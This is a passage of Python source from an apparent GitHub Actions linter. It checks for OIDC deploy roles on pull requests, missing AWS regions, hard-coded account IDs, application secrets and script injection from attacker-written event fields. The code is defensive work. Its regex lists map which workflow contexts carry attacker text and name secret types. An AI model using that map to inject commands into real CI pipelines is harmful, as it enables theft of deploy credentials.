                (u, [e for e in _PULL_REQUEST_EVENTS if e in u[1]]) for u in chained) if events]
            hit = next(((u, events) for u, events in on_pr
                        if not _read_only_role(u[0], u[4], ctx.config.github)), None)
            if hit is None:
                continue
            (ru, _, path, who, user), events = hit
            how = " (chained from the role it assumed through OIDC)" if not ru.oidc else ""
            yield Problem(OIDC_ON_PULL_REQUEST.id, path,
                          f"{who} assumes {_role_text(ru)}{how} on `{events[0]}`: code "
                          "from any branch's pull request runs with the deploy role",
                          help="assume deploy roles on `push` to protected branches or in an "
                               "environment with reviewers; give pull requests a read-only role")


# events that run a pull request's merge commit (`refs/pull/N/merge`)
_PULL_REQUEST_EVENTS = ("pull_request", "pull_request_review", "pull_request_review_comment")


def _read_only_role(ru, job, github) -> bool:
    """Does the role's name say it is read-only, as written or as the config's
    vars/secrets resolve it (`${{ vars.PLAN_ROLE_ARN }}`)?"""
    for role in (ru.role_to_assume, wm.expand(ru.role_to_assume, job, ru.step, github=github)):
        if isinstance(role, str) and role and _READ_ONLY_ROLE.search(
                role.rsplit("/", 1)[-1].split("}")[0].strip()):
            return True
    return False


def _token_file_use(ru) -> bool:
    """A web identity assumed with a token read from `web-identity-token-file`
    (not keys, not chaining): in a job that can mint GitHub's OIDC token, the
    file holds that token (`core.getIDToken()` written to it)."""
    w = ru.step.with_
    return bool(w.get("web-identity-token-file")) and not w.get("aws-access-key-id") \
        and wm._truthy(w.get("role-chaining")) is not True


def _needs_token(job, ru) -> bool:
    """Does a role use need the job's OIDC token: assumed through OIDC, or
    with a `web-identity-token-file` (`_token_file_use`) that an earlier step
    fills with the token it fetches (`core.getIDToken()`, `wm.fetches_token`)?"""
    if ru.oidc:
        return True
    if ru.step is None or not _token_file_use(ru):
        return False
    for st in job.steps:
        if st is ru.step:
            return False
        if wm.fetches_token(st):
            return True
    return False


def _assumes_a_role(job, ctx) -> bool:
    """Does the job assume a role through OIDC, itself or in the local workflow
    it calls? A call to a workflow that cannot be read is taken to."""
    if job.uses is None:
        return any(_needs_token(job, ru) for ru in job.role_uses())
    called = _called_role_uses(job, ctx)
    return called is None or bool(called)


def _called_role_uses(job, ctx, depth: int = 0) -> Optional[list]:
    """[(called job, its OIDC role use)] of the local reusable workflow a job
    calls, and of the local workflows its jobs call in turn (permissions only
    stay or shrink down a chain: the first caller must grant the token); None
    when there is none that can be read."""
    callee = _local_workflow(job, ctx)
    if callee is None:
        return None
    out = []
    for called in callee.jobs.values():
        if called.disabled:
            continue
        out += [(called, ru) for ru in called.role_uses() if _needs_token(called, ru)]
        handed = _handed_remote_role(called)
        if handed is not None:  # (a role use without a step: the remote workflow's)
            out.append((called, handed))
        elif called.uses and depth < 3:
            out += _called_role_uses(called, ctx, depth + 1) or []
    return out


def _region_from_env(step, job) -> bool:
    """Does a configure-aws-credentials step that `translates_env` (v4.2.0 and
    later) get its region from AWS_REGION, its input being empty?"""
    if not wm.translates_env(step):
        return False
    region = wm.credentials_input(step, job, "aws-region")
    return region is not step.with_.get("aws-region") and bool(str(region).strip())


def _use_path(ru) -> tuple:
    return ru.step.path + ("uses",) if ru.step.uses else ru.path


# --- configure-aws-credentials inputs --------------------------------------------------

_LITERAL_ACCOUNT = lazy_re(r"arn:aws[a-z-]*:iam::(\d{12}):")


@check(kinds=("workflow",), rules=(REGION_MISSING.id, ACCOUNT_ID_HARDCODED.id))
def credential_inputs(doc, ctx):
    wf = _workflow(doc)
    callers = None  # a reusable workflow's calling jobs, read when a region needs them
    if "workflow_call" in wf.triggers and "inputs." in (doc.text or ""):
        callers = wm.local_callers(doc.file, wf, ctx.repo_root)
    handing = None  # and the secrets each hands it
    if "workflow_call" in wf.triggers and "secrets." in (doc.text or ""):
        handing = wm.local_secret_callers(doc.file, wf, ctx.repo_root)
    for job in _live_jobs(wf):
        for st in job.steps:
            if st.uses == wm.CONFIGURE_CREDENTIALS and not _region_from_env(st, job):
                region = st.with_.get("aws-region")
                if region is None or (isinstance(region, str) and not region.strip()):
                    where = wm.input_path(st, "aws-region") if "aws-region" in st.with_ \
                        else st.path + ("uses",)
                    yield Problem(REGION_MISSING.id, where,
                                  "configure-aws-credentials has no `aws-region` input (it is "
                                  "required; an AWS_REGION env variable fills it only in a "
                                  "release pinned at v4.2.0 or later): the step fails",
                                  help="add `aws-region: ${{ env.AWS_REGION }}` under `with:`",
                                  span=wm.composite_span(st, ("uses",))
                                  if "aws-region" not in st.with_ else None)
                elif isinstance(region, str) and _empty_env(region, job, st):
                    name = _empty_env(region, job, st)
                    yield Problem(REGION_MISSING.id, wm.input_path(st, "aws-region"),
                                  f"`aws-region` reads env {name}, which is set to nothing in "
                                  "the workflow (a YAML null or ''): the required input is "
                                  "empty and the step fails",
                                  help=f"give {name} a region, e.g. `{name}: eu-west-1`")
                elif isinstance(region, str) and _empty_region(region, wf, job, st, callers,
                                                               handing):
                    why = _empty_region(region, wf, job, st, callers, handing)
                    yield Problem(REGION_MISSING.id, wm.input_path(st, "aws-region"),
                                  f"`aws-region` is {why}: the "
                                  "required input is empty and the step fails",
                                  help="give the step a region that is always set, e.g. "
                                       "`${{ vars.AWS_REGION || 'eu-west-1' }}`")
            for ru in wm.role_uses_of(st, job):  # `role-to-assume`, or `aws sts ... --role-arn`
                if not isinstance(ru.role_to_assume, str):
                    continue
                for row in job.matrix_rows():
                    value = wm.expand(ru.role_to_assume, job, st, row)
                    m = _LITERAL_ACCOUNT.search(value) if isinstance(value, str) else None
                    if m:
                        yield Problem(ACCOUNT_ID_HARDCODED.id, ru.path,
                                      f"the role ARN holds the literal account id {m.group(1)}",
                                      help="keep the role ARN in a repository or environment "
                                           "variable: `role-to-assume: "
                                           "${{ vars.DEPLOY_ROLE_ARN }}`",
                                      span=wm.script_span(doc, st, ru.line)
                                      if ru.line is not None else None)
                        break


_ENV_ONLY = lazy_re(r"env\.([A-Za-z_][\w-]*)")


# actions a job runs before the step that are known not to export other env variables
_QUIET_ACTIONS = ("actions/checkout", "actions/setup-", "actions/cache", "actions/upload-artifact",
                  "actions/download-artifact", "docker/setup-", "docker/login-action",
                  "aws-actions/amazon-ecr-login", "aws-actions/amazon-ecs-render-task-definition",
                  "aws-actions/amazon-ecs-deploy-task-definition")
_REGION_VARS = ("AWS_REGION", "AWS_DEFAULT_REGION")


def _empty_region(value: str, wf, job, step, callers=None, handing=None) -> Optional[str]:
    """Why a region input made of one expression is certainly empty in some
    run: `${{ env.X }}` with X in no `env:` of the step, job or workflow and
    not exported by an earlier step; `${{ matrix.K }}` with a row that lacks
    K; `${{ inputs.X }}` on an event without inputs (a push), or in a reusable
    workflow whose input has no default and a calling job of the repository
    (`callers`) does not pass it; `${{ secrets.X }}` in a reusable workflow
    that no calling job of the repository hands X (`handing`:
    `wm.local_secret_callers`); `${{ needs.J.outputs.N }}` that job J does
    not declare. None otherwise."""
    m = wm.EXPR.fullmatch(value.strip())
    inner = m.group(1).strip() if m else ""
    ref = _ENV_ONLY.fullmatch(inner)
    if ref is not None:
        name = ref.group(1)
        scopes = (step.env, job.env, job.workflow.env if job.workflow else None)
        if any(isinstance(sc, dict) and name in sc for sc in scopes):
            return None
        if wm.runtime_env_write(job, step, name) is not None:
            return None  # an earlier step writes it to `$GITHUB_ENV`, or may (`jq ... >>`)
        for other in job.steps[:step.index]:
            uses = (other.uses or "").split("@")[0]
            if other.uses and not uses.startswith(_QUIET_ACTIONS) and not (
                    other.uses == wm.CONFIGURE_CREDENTIALS and name not in _REGION_VARS):
                return None  # an action may export it (configure-aws-credentials: the region)
        return f"`{inner}`, which no `env:` of the step, job or workflow sets"
    key = re.fullmatch(r"matrix((?:\.[A-Za-z_][\w-]*){1,8})", inner)
    if key is not None and isinstance(job.strategy.get("matrix"), dict):
        rows = job.matrix_rows()
        if rows and rows != [{}] and any(_lacks(r, key.group(1)[1:].split("."))
                                         for r in rows):
            return f"`{inner}`, which a row of the matrix does not set"
    out = re.fullmatch(r"steps\.([A-Za-z_][\w-]*)\.outputs\.[A-Za-z_][\w-]*", inner)
    if out is not None and step.via is None:
        ids = [st.id for st in job.steps]
        if out.group(1) in ids and out.group(1) not in ids[:step.index]:
            return (f"`{inner}`, read before step '{out.group(1)}' runs (the `steps` "
                    "context holds only the steps that ran)")
    out = re.fullmatch(r"needs\.([A-Za-z_][\w-]*)\.outputs\.([A-Za-z_][\w-]*)", inner)
    other = wf.jobs.get(out.group(1)) if out is not None else None
    if other is not None and other.uses is None and other.steps \
            and out.group(2) not in other.outputs:
        return (f"`{inner}`, an output job '{out.group(1)}' does not declare under its "
                "`outputs:` (a step's output reaches other jobs only through them)")
    inp = re.fullmatch(r"(?:github\.event\.)?inputs\.([A-Za-z_][\w-]*)", inner)
    if inp is not None and callers:
        lacking = [f"{f} job '{j}'" for f, j, given in callers
                   if inp.group(1).lower() not in {str(k).lower() for k in given}]
        if lacking:
            return (f"`{inner}`, an input with no default that {lacking[0]} does not pass")
    secret = re.fullmatch(r"secrets\.([A-Za-z_][\w-]*)", inner)
    if secret is not None and step.via is None and handing and all(
            passed is not None and secret.group(1).lower() not in passed
            for _, _, passed in handing):
        return (f"`{inner}`, a secret {handing[0][0]} job '{handing[0][1]}' does not hand "
                "this reusable workflow (no `secrets: inherit`, no `secrets:` entry for it)")
    if inp is not None and "workflow_call" not in wf.triggers:
        others = sorted(e for e in wm.job_events(wf, job) if e != "workflow_dispatch")
        if others and "workflow_dispatch" in wf.triggers:
            return f"`{inner}`, which is empty on {others[0]} (only a dispatch has inputs)"
    return None


def _lacks(row, keys) -> bool:
    """Does a matrix row lack the value at `keys` (`target.region`: an object
    of the row without `region`)? GitHub makes a missing property empty."""
    for k in keys:
        if not isinstance(row, dict):
            return False  # not an object: the lookup is not known here
        if k not in row:
            return True
        row = row[k]
    return False


def _empty_env(value: str, job, step) -> Optional[str]:
    """The env variable a value is made of (`${{ env.X }}`, nothing else) when
    its `env:` entry has no value (`X:` alone, `X: ##x##` read as a comment, or
    '') and no earlier step of the job sets it through `$GITHUB_ENV`."""
    m = wm.EXPR.fullmatch(value.strip())
    ref = _ENV_ONLY.fullmatch(m.group(1).strip()) if m else None
    if ref is None:
        return None
    name = ref.group(1)
    for scope in (step.env, job.env, job.workflow.env if job.workflow else None):
        if isinstance(scope, dict) and name in scope:
            v = scope[name]
            if v is not None and not (isinstance(v, str) and not v.strip()):
                return None
            break
    else:
        return None  # not in any env block: it may come from elsewhere
    if wm.runtime_env_write(job, step, name) is not None:
        return None
    return name


# --- secrets and injection ----------------------------------------------------------------

_SECRET_REF = lazy_re(r"\bsecrets\s*(?:\.\s*([A-Za-z0-9_-]+)|\[\s*'([A-Za-z0-9_-]+)'\s*\])",
                      re.I)  # secrets.NAME or secrets['NAME']
_APP_SECRET = lazy_re(
    r"PASSWORD|PASSWD|PASSPHRASE|(?:^|_)PWD$|(?:^|_)DB_|DATABASE|POSTGRES|MYSQL|MONGO|REDIS|"
    r"SECRET_KEY|SECRET_KEY_BASE|APP_SECRET|API_?KEY|API_TOKEN|PRIVATE_KEY|JWT|CLIENT_SECRET|"
    r"ENCRYPTION|SIGNING|SMTP|STRIPE|TWILIO|SENDGRID|OPENAI|ANTHROPIC|CLERK|AUTH0|"
    r"MAPS_API|FIREBASE|SUPABASE|MAILGUN|PUSHER|ALGOLIA", re.I)
_CI_SECRET = lazy_re(
    r"^(AWS_|GITHUB|GH_|ACTIONS_)|SLACK|SONAR|CODECOV|NPM_TOKEN|DOCKER|SENTRY_AUTH|"
    r"ROLE|ACCOUNT|SUBNET|(?:^|_)SG(?:_|$)|SECURITY_GROUP|(?:^|_)EC[RS](?:_|$)|CLUSTER|"
    r"(?:^|_)SERVICE|REGION|"
    r"DEPLOY_KEY|SSH|(?:^|_)PAT$|REGISTRY|KUBE|TERRAFORM|TF_|CODEDEPLOY", re.I)


_PUBLIC_KEY = lazy_re(r"PUBLISHABLE", re.I)  # Stripe/Clerk `pk_...`: public by design


def _is_app_secret(name):
    return bool(_APP_SECRET.search(name)) and not _CI_SECRET.search(name) \
        and not _PUBLIC_KEY.search(name)


@check(kinds=("workflow",), rules=(APP_SECRET_IN_GITHUB.id,))
def app_secrets(doc, ctx):
    wf = _workflow(doc)
    for job in _live_jobs(wf):
        if not (job.deploys() or job.role_uses()):
            continue
        places = [(job.path + ("env", k), v, False) for k, v in job.env.items()]
        for st in job.steps:
            places += [(st.path + ("env", k), v, st.via) for k, v in st.env.items()]
            places += [(st.path + ("with", k), v, st.via) for k, v in st.with_.items()]
        for path, v, via in places:  # each secret where it is written (a block's line)
            seen = set()
            for n, line in enumerate(v.splitlines() if isinstance(v, str) else ()):
                for m in _SECRET_REF.finditer(line):
                    name = m.group(1) or m.group(2)
                    if _is_app_secret(name) and name not in seen:
                        seen.add(name)
                        yield _app_secret_problem(
                            job, name, path,
                            None if via else _line_in_block(doc, path, n, m.group(0)))
        for st in job.steps:
            if not isinstance(st.run, str):
                continue
            for n, line in enumerate(st.run.splitlines()):
                for m in _SECRET_REF.finditer(line):
                    name = m.group(1) or m.group(2)
                    if _is_app_secret(name):
                        yield _app_secret_problem(job, name, st.run_path,
                                                  wm.script_span(doc, st, n))
                        break


def _app_secret_problem(job, name, path, span=None):
    return Problem(APP_SECRET_IN_GITHUB.id, path,
                   f"job '{job.id}' feeds the application secret `secrets.{name}` into the "
                   "deploy from GitHub secrets",
                   help="keep it in AWS Secrets Manager (or SSM) and reference it from the "
                        "task definition's `secrets` (valueFrom)", span=span)


_INJECTABLE = lazy_re(
    r"github\s*\.\s*head_ref"
    r"|github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)\b"
    r"|github\.event\.pull_request\.head\.(?:ref|label|repo\.default_branch)\b"
    r"|github\.event\.(?:comment|review|review_comment)\.body\b"
    # (an `edited` event's previous title or body: the author's text all the same)
    r"|github\.event\.changes\.(?:title|body)\.from\b"
    r"|github\.event\.pages\b[^}]*\.page_name\b"
    r"|github\.event\.(?:commits\b[^}]*|(?:merge_group\.)?head_commit)\.(?:message|"
    r"author\.(?:email|name)|"
    r"committer\.(?:email|name))\b"
    r"|github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|"
    r"author\.(?:email|name)))\b"
    r"|github\.event\.workflow_run\.pull_requests\b[^}]*\.head\.ref\b"
    r"|github\.event\.(?:check_run\.)?check_suite\.(?:head_branch|head_commit\.(?:message|"
    r"(?:author|committer)\.(?:email|name)))\b"
    # (a release's name is written by who may publish it; its notes list pull
    # request titles when GitHub generates them)
    r"|github\.event\.release\.body\b", re.I)  # context names ignore case


_TO_JSON = lazy_re(r"\btojson\s*\(\s*github(?:\.event(?:\.(?:issue|pull_request|discussion|"
                   r"comment|review|review_comment|head_commit|commits|workflow_run|pages|"
                   r"release|merge_group(?:\.head_commit)?))?)?\s*\)", re.I)
_BRACKET = lazy_re(r"\[\s*(?:'([^']*)'|\"([^\"]*)\")\s*\]")
_DOT_SPACE = lazy_re(r"\s*\.\s*")
_ENV_REF = lazy_re(r"\benv\.([A-Za-z_][\w-]*)", re.I)
_BOOLEAN_CALL = lazy_re(r"^(?:contains|startswith|endswith)\s*\(", re.I)


def _injected(expr: str, job, step, taint=None, depth: int = 0):
    """(what the expression reads, the attacker-controlled text it pastes, who
    set it from that text or None), e.g. (`github.event.comment.body`, the
    same, None) or (`env.BODY`, the text BODY is set from, None), following
    the values that carry such text on (`_carried`); None when it pastes
    nothing an outsider writes. `taint`: `_Taint`."""
    e = _DOT_SPACE.sub(".", _BRACKET.sub(lambda m: "." + (m.group(1) or m.group(2) or ""),
                                         expr.strip()))
    if _boolean(e) or _literals_only(e):
        return None  # pastes only true or false, or its own literals
    for bad in itertools.chain(_INJECTABLE.finditer(e), _TO_JSON.finditer(e)):
        if not _empty_on_events(bad.group(0), job, step):
            return bad.group(0), bad.group(0), None
    if depth >= _MAX_CARRY:
        return None
    return _carried(e, job, step, taint or _NO_TAINT, depth + 1)


def _empty_on_events(expr: str, job, step) -> bool:
    """Is `github.event.KEY...` empty on every event the job runs on, its
    step's `if:` too (`wm.job_events`): a field of other events' payloads
    (`wm.not_in_payload`), e.g. `head_commit` in a job kept to `schedule`? Not
    in a reusable workflow (`workflow_call`: its caller's event)."""
    wf = job.workflow if job is not None else None
    if wf is None or not isinstance(wf.triggers, dict):
        return False
    events = wm.job_events(wf, job)
    if step is not None:
        events = wm.if_events(step.if_, wm.pull_request_ref_is_merge(wf.triggers)).admit(events)
    return "workflow_call" not in events and wm.not_in_payload(expr, events)


_MAX_CARRY = 6  # values followed from one expression to the attacker's text
_STEP_OUTPUT_REF = lazy_re(r"(?<![\w.-])steps\.([A-Za-z0-9_-]+)\.outputs\.([A-Za-z0-9_-]+)", re.I)
_NEEDS_OUTPUT_REF = lazy_re(r"(?<![\w.-])needs\.([A-Za-z0-9_-]+)\.outputs\.([A-Za-z0-9_-]+)",
                            re.I)
_INPUT_NAME = lazy_re(r"(?<![\w.-])inputs\.([A-Za-z0-9_-]+)", re.I)
_MATRIX_NAME = lazy_re(r"(?<![\w.-])matrix\.([A-Za-z0-9_-]+)", re.I)


def _carried(e: str, job, step, taint, depth: int):
    """`_injected` for the contexts of an expression that paste a value set
    elsewhere: `env.X` set from attacker text, `steps.ID.outputs.N`
    (`_step_output_injected`), `needs.J.outputs.N` (the job output's value
    read in job J) and `inputs.N` that a caller fills with such text."""
    for name in _ENV_REF.findall(e):  # `${{ env.X }}` pastes X's value just the same
        written = wm.runtime_env_write(job, step, name) \
            if job is not None and not (step is not None and isinstance(step.env, dict)
                                           and name in step.env) else None
        exported = _exported_by_script(job, step, name) if written is None else None
        if written is not None:  # an earlier step's `echo "X=$BRANCH" >> "$GITHUB_ENV"`
            got = _shell_text_injected(written.value, job, written.step,
                                       written.command.index, taint, depth)
        elif exported is not None:  # an earlier `core.exportVariable('X', body)`
            got = (exported, exported, GITHUB_SCRIPT)
        else:
            got = _value_injected(wm._env_value(name, job, step), job, None, taint, depth)
        if got:
            return (f"env.{name}",) + got[1:]
    for sid, name in _STEP_OUTPUT_REF.findall(e):
        got = _step_output_injected(job, sid, name, taint, depth)
        if got:
            return (f"steps.{sid}.outputs.{name}",) + got[1:]
    jobs = job.workflow.jobs if job is not None and job.workflow is not None else {}
    for jid, name in _NEEDS_OUTPUT_REF.findall(e):
        other = jobs.get(jid)
        got = other is not None and _value_injected(other.outputs.get(name), other, None,
                                                    taint, depth)
        if not got and other is not None and other.uses and taint.ctx is not None:
            got = _called_output_injected(other, name, taint.ctx, depth)
        if got:
            return (f"needs.{jid}.outputs.{name}",) + got[1:]
    for name in _INPUT_NAME.findall(e):
        if name.lower() in taint.inputs:
            return (f"inputs.{name}",) + taint.inputs[name.lower()]
    for name in _MATRIX_NAME.findall(e):  # a matrix value GitHub filled from such text
        for value in _matrix_values(job, name):
            got = _value_injected(value, job, None, taint, depth)
            if got:
                return (f"matrix.{name}",) + got[1:]
    return None


def _matrix_values(job, name: str) -> List[str]:
    """The texts written in the job's matrix that may give `matrix.NAME`: the
    matrix or its `include` when one expression gives it whole (`${{
    fromJSON(needs.parse.outputs.matrix) }}`), else those under NAME in the
    vector and in the `include` rows (`${{ fromJSON(needs.parse.outputs.services) }}`)."""
    matrix = job.strategy.get("matrix") if job is not None and isinstance(
        job.strategy, dict) else None
    if not isinstance(matrix, dict):
        return [matrix] if isinstance(matrix, str) else []
    include = matrix.get("include")
    rows = include if isinstance(include, list) else [{name: include}]
    found = [v for row in [matrix] + rows[:256] if isinstance(row, dict)
             for k, v in row.items() if str(k).lower() == name.lower()]
    out = []
    for _ in range(2000):  # (a YAML alias may make a list hold itself)
        if not found:
            break
        v = found.pop()
        if isinstance(v, str):
            out.append(v)
        elif isinstance(v, dict):
            found.extend(list(v.values())[:256])
        elif isinstance(v, list):
            found.extend(v[:256])
    return out


def _value_injected(value, job, step, taint, depth: int):
    """`_injected` of the first expression in a value (an `env` entry, a job
    output, a caller's `with:`) that pastes attacker text."""
    if not isinstance(value, str):
        return None
    for m in wm.EXPR.finditer(value):
        got = _injected(m.group(1), job, step, taint, depth)
        if got:
            return got
    return None


def _step_output_injected(job, step_id: str, name: str, taint, depth: int):
    """`_injected` of the output `name` of the job's step `step_id`: a value
    written to `$GITHUB_OUTPUT` that carries attacker text
    (`_shell_text_injected`), or what `actions/github-script` sets from it
    (`_script_output_source`). Outputs of other actions are not followed."""
    st = next((s for s in (job.steps if job is not None else [])
               if (s.id or "").lower() == step_id.lower()), None)
    if st is None:
        return None
    if st.uses == GITHUB_SCRIPT:
        source = _script_output_source(st, name)
        return (source, source, GITHUB_SCRIPT) if source else None
    w = wm.step_outputs(st).get(name)
    if w is None:
        return None
    return _shell_text_injected(w.value, job, st, w.command.index, taint, depth)


_CALLED_JOB_OUTPUT = lazy_re(
    r"^\s*\$\{\{\s*jobs\.([A-Za-z0-9_-]+)\.outputs\.([A-Za-z0-9_-]+)\s*\}\}\s*$")


def _called_output_injected(job, name: str, ctx, depth: int):
    """`_injected` of output `name` of a job that calls a local reusable
    workflow: its `on.workflow_call.outputs.NAME.value`, a job output of the
    called workflow (`${{ jobs.J.outputs.N }}`), whose jobs run on the
    caller's event."""
    called = _local_workflow(job, ctx)
    spec = called.triggers.get("workflow_call") if called is not None else None
    outputs = spec.get("outputs") if isinstance(spec, dict) else None
    entry = outputs.get(name) if isinstance(outputs, dict) else None
    value = entry.get("value") if isinstance(entry, dict) else None
    m = _CALLED_JOB_OUTPUT.match(value) if isinstance(value, str) else None
    inner = called.jobs.get(m.group(1)) if m else None
    if inner is None:
        return None
    return _value_injected(inner.outputs.get(m.group(2)), inner, None, _NO_TAINT, depth + 1)


# GitHub's variables that hold attacker text (the branch name of a pull request)
_ATTACKER_ENV = {"GITHUB_HEAD_REF": "github.head_ref"}
# commands whose output cannot carry the text read: counts, checksums, base64
_NO_TEXT_OUT = {"wc", "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum",
                "cksum", "b2sum", "base64"}


def _shell_text_injected(text: str, job, step, at: int, taint, depth: int):
    """`_injected` of shell text a step's script writes (to `$GITHUB_OUTPUT`)
    at its command number `at`: its `${{ }}` expressions, and the shell
    variables it expands, set earlier in the script (`X=...`, `X=$(sed ...
    <<<"$BODY")`: derived text is still the attacker's, unless it is made of a
    pipeline that prints no text, `_no_text_out`; every value an assignment
    made only on a condition may have left counts, `_assignments`) or in the
    environment from an expression."""
    got = _value_injected(text, job, step, taint, depth) \
        or _artifact_read(text, job, step, taint) or _event_file_read(text, job, step, taint, depth)
    if got or depth >= _MAX_CARRY:
        return got
    text = _without_digests(text)
    for m in wm._SHELL_VAR.finditer(text):
        var = m.group(1) or m.group(3)
        if var in _ATTACKER_ENV:
            return _ATTACKER_ENV[var], _ATTACKER_ENV[var], None
        values = _assignments(step, var, at)
        for c in values:
            if not _text_free(step, c, var):
                got = _shell_text_injected(c.assigns[var], job, step, c.index, taint, depth + 1)
                if got:
                    return got
        if not values or _conditional(values[0]):
            got = _value_injected(wm._env_value(var, job, step), job, step, taint, depth)
            if got:
                return got
    return None


def _assignments(step, var: str, before: int) -> list:
    """The commands of a step's script, before its command number `before`,
    whose assignment may give `var` its value there: the last one that always
    runs and those after it that run only on a condition (`_conditional`:
    `if [ -z "$v" ]; then v=x; fi` leaves the earlier value when it does not),
    unless that condition is that the value fails a check only data passes
    (`_runs_unless_checked`)."""
    out, previous = [], None
    for c in wm.commands(step):
        if c.index >= before:
            break
        if c.in_substitution:
            continue
        if var in c.assigns:
            if not _conditional(c) or _runs_unless_checked(c, previous, var):
                out = []
            out.append(c)
        previous = c
    return out


def _runs_unless_checked(c, test, var: str) -> bool:
    """Does a command run exactly when `var` fails the test just before it, a
    match of a pattern only data characters pass (`_data_pattern`): `if ! [[
    "$v" =~ ^[0-9]{1,3}$ ]]; then v=30; fi`, `[[ $v =~ ^[a-z]+$ ]] || v=x`?
    The value it leaves otherwise is then no shell code."""
    argv = test.argv if test is not None and test.in_condition else []
    if argv[:1] != ["[["] or argv[-1:] != ["]]"]:
        return False
    words, negated = argv[1:-1], test.negated
    if words[:1] == ["!"]:
        words, negated = words[1:], not negated
    if len(words) != 3 or words[0] not in (f"${var}", f"${{{var}}}") or words[1] != "=~" \
            or not _data_pattern(words[2]):
        return False
    return negated != (c.op_before == "||")  # (`||`: runs when the test fails)


# a part of a regex: a bracket (not negated), a data character, `\.`, a
# repetition, a group's parenthesis, `|`
_PATTERN_PART = lazy_re(r"\[((?!\^)(?:\[:[a-z]+:\]|[^\]])+)\]|[A-Za-z0-9_-]|\\\.|[+*?]"
                        r"|\{\d+(?:,\d*)?\}|[()|]")


def _data_pattern(pattern: str) -> bool:
    """Does a regex match only text of letters, digits, `.`, `_` and `-`: all
    of it anchored (`^...$`), of data characters and brackets of them
    (`^[a-z0-9][a-z0-9-]{0,29}$`), `|` only inside a group?"""
    if not (pattern.startswith("^") and pattern.endswith("$")) or len(pattern) > 200:
        return False
    i, depth, body = 1, 0, pattern[:-1]
    while i < len(body):
        m = _PATTERN_PART.match(body, i)
        if m is None or m.group(1) is not None and not _data_set(m.group(1)):
            return False
        depth += {"(": 1, ")": -1}.get(m.group(0), 0)
        if depth < 0 or m.group(0) == "|" and depth == 0:
            return False
        i = m.end()
    return depth == 0 and len(body) > 1


def _conditional(c) -> bool:
    """Does a command run only on a condition: in an `if` or `case` body, after
    `&&` or `||`, in a loop or a function's body?"""
    return c.guarded or c.in_loop or c.function is not None


def _without_digests(text: str) -> str:
    """Shell text without its `$(...)` (no parentheses inside) whose pipeline
    prints no text of what it reads (`_no_text_out`: `$(printf %s "$MSG" |
    sha256sum | cut -c1-16)`, `$(... | tr -dc 'a-z0-9')`)."""
    out, i = [], 0
    while True:
        start = text.find("$(", i)
        end = text.find(")", start + 2) if start >= 0 else -1
        if start < 0 or end < 0:
            return "".join(out) + text[i:]
        inner = text[start + 2:end]
        cmds = [] if "(" in inner else shell.parse(inner)
        keep = not cmds or not _no_text_out(_pipeline_into(cmds[-1], cmds))
        out.append(text[i:end + 1] if keep else text[i:start])
        i = end + 1


def _text_free(step, assignment, var: str) -> bool:
    """Does an assignment give `var` a value that cannot hold text:
    arithmetic (`$((...))`), or the output of a pipeline that prints none
    (`_no_text_out`: `$(wc -c <<<"$BODY")`, `$(... | tr -dc '0-9')`)?"""
    value = assignment.assigns.get(var, "")
    if value.startswith("$(("):
        return True
    cmds = wm.commands(step)
    last = [c for c in cmds if c.captured_by == var and c.parent == assignment.index]
    return len(last) == 1 and value.startswith("$(") and value.endswith(")") \
        and _no_text_out(_pipeline_into(last[0], cmds))


def _pipeline_into(last, cmds) -> list:
    """The commands that pipe into `last`, in order, and `last`."""
    by_index = {c.index: c for c in cmds}
    out = [last]
    while len(out) < 20 and out[0].pipe_from in by_index and by_index[out[0].pipe_from] not in out:
        out.insert(0, by_index[out[0].pipe_from])
    return out


def _no_text_out(piped) -> bool:
    """Does a pipeline print no text of what it reads: a count or a checksum
    (`_NO_TEXT_OUT`, `grep -c`), or only characters the shell takes as data
    (`_data_only`)?"""
    return any(c.name in _NO_TEXT_OUT for c in piped) or _data_only(piped) or bool(piped) and (
        piped[-1].name == "grep" and any(a in ("-c", "--count") for a in piped[-1].argv[1:]))


_SET_OUTPUT_JS = lazy_re(r"\bcore\s*\.\s*setOutput\s*\(\s*(['\"`])([A-Za-z0-9_-]+)\1\s*,")
_RETURN_JS = lazy_re(r"(?m)^\s*return\s+([^;\n]+)")
_JS_DECLARED = r"(?:const|let|var)\s+{}\s*=\s*([^;\n]+)"
_JS_PART = lazy_re(r"\$\{([^}]*)\}|[^+`$]+|\$")
# a property path that ends at text an outsider writes (a title, a body, a
# branch name, a commit message), possibly trimmed, case-folded or cut
# (`.split('\n')[0]`, `.slice(0, 60)`)
_JS_ATTACKER_FIELD = lazy_re(
    r"[A-Za-z_$][\w$]*(?:\??\.[A-Za-z_$][\w$]*|\[\d+\])*\??\."
    r"(?:head\??\.(?:ref|label)|title|body|message|head_ref|head_branch|display_title|"
    r"page_name|(?:author|committer)\??\.(?:name|email))"
    r"(?:\.(?:trim|trimStart|trimEnd|toLowerCase|toUpperCase)\(\)"
    r"|\.split\(\s*(?:'[^'\n]*'|\"[^\"\n]*\")\s*\)\[\d+\]"
    r"|\.(?:slice|substring|substr)\(\s*-?\d+\s*(?:,\s*-?\d+\s*)?\))*")


def _script_output_source(step, name: str) -> Optional[str]:
    """The attacker-controlled JavaScript value an `actions/github-script` step
    sets as its output `name` (`core.setOutput('name', data.head.ref)`, or for
    `result` what the script returns last), e.g. `data.head.ref`; None unless
    the value clearly is such text (`_js_tainted`)."""
    script = step.input("script")
    if not isinstance(script, str):
        return None
    values = _js_call_values(script, _SET_OUTPUT_JS, name)
    returned = _RETURN_JS.findall(script)
    if name == "result" and returned:
        values.append(returned[-1])
    return _js_tainted(script, values)


def _exported_by_script(job, step, name: str) -> Optional[str]:
    """The attacker field an earlier `actions/github-script` step of the job
    exports as env `name` (the last such step before `step`), or None."""
    if job is None or step is None or (isinstance(step.env, dict) and name in step.env):
        return None
    before = []
    for st in job.steps:
        if st is step:
            break
        before.append(st)
    else:
        return None
    for st in reversed(before):
        if st.uses == GITHUB_SCRIPT:
            got = _script_env_source(st, name)
            if got:
                return got
    return None


def _script_env_source(step, name: str) -> Optional[str]:
    """The attacker-controlled JavaScript value an `actions/github-script` step
    exports as env variable `name` (`core.exportVariable('NAME', v)`, which
    writes `$GITHUB_ENV` for the later steps); None when there is none."""
    script = step.input("script") if step.uses == GITHUB_SCRIPT else None
    if not isinstance(script, str) or "exportVariable" not in script:
        return None
    return _js_tainted(script, _js_call_values(script, _EXPORT_VARIABLE_JS, name))


def _js_call_values(script: str, call_re, name: str) -> List[str]:
